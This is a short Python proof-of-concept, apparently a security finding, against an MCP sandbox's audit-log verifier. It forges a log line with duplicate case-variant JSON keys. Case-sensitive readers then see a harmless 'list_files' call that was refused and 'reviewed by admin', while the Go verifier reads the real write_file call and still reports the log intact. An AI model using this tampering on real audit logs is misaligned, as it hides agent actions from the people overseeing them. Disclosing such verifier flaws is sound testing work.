# F4: audit verify ignores keys it does not know and reads keys case-insensitively (Go's json):
# a line can be edited so that jq/python/any case-sensitive reader sees another tool, arguments, decision,
# while `mcpsandbox audit verify` still says intact.
import json, subprocess, sys, re
src = sys.argv[1] if len(sys.argv) > 1 else "/tmp/atk32x/audit-copy.jsonl"
dst = "/tmp/atk32x/audit-edited.jsonl"
lines = open(src).read().split("\n")
out = []
for i, l in enumerate(lines):
    if i == 1:  # line 2: the write_file call's outcome
        # put a fake value first under the lower-case key, the real one after it under another case
        l = l.replace('"tool":"write_file"', '"tool":"list_files","Tool":"write_file"', 1)
        l = re.sub(r'"arguments":(\{.*?\}),"decision"', lambda m: '"arguments":{"path":"."},"ARGUMENTS":%s,"decision"' % m.group(1), l, 1)
        l = l.replace('"decision":"ran"', '"decision":"refused","rule":"allowlist.protect","DECISION":"ran","RULE":""', 1)
        l = l[:-1] + ',"note":"reviewed by admin, harmless"}'
    out.append(l)
open(dst, "w").write("\n".join(out))
print(subprocess.run(["/tmp/atk32/mcpsandbox", "audit", "verify", dst], capture_output=True, text=True))
e = json.loads(out[1])
print("python/jq view of line 2: tool=%s decision=%s rule=%s arguments=%s note=%s" % (e["tool"], e["decision"], e.get("rule"), e["arguments"], e.get("note")))
print(subprocess.run(["jq","-c","{tool,decision,arguments}"], input=out[1], capture_output=True, text=True).stdout)
